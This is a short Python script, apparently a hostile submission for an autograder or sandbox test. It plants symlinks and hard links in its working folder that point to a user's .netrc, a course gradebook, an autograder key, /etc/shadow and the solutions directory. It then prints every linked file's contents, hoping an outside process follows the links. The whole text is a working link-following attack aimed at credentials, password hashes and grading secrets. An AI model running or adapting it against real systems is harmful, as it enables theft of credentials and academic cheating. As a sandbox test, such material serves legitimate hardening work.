# Makes links to secrets in its folder, and hopes that somebody outside follows them.
import json
import os

targets = json.load(open("targets.json"))
course, home = targets["course"], targets["home"]
for number, path in enumerate(
    [
        f"{home}/.netrc",
        f"{course}/gradebook.db",
        f"{course}/.autograder/key",
        "/etc/shadow",
        targets["tmp"],
    ]
):
    os.symlink(path, f"link{number}.txt")
    os.symlink(path, f"link{number}.ipynb")
    try:
        os.link(path, f"hard{number}.txt")
    except OSError:
        pass
os.rename("targets.json", "moved.json")
os.symlink(f"{home}/.netrc", "targets.json")
os.symlink(f"{course}/solutions", "solutions")
for name in sorted(set(os.listdir(".")) - {"moved.json"}):
    try:
        print(name, open(name).read(), targets["success"])
    except OSError:
        pass
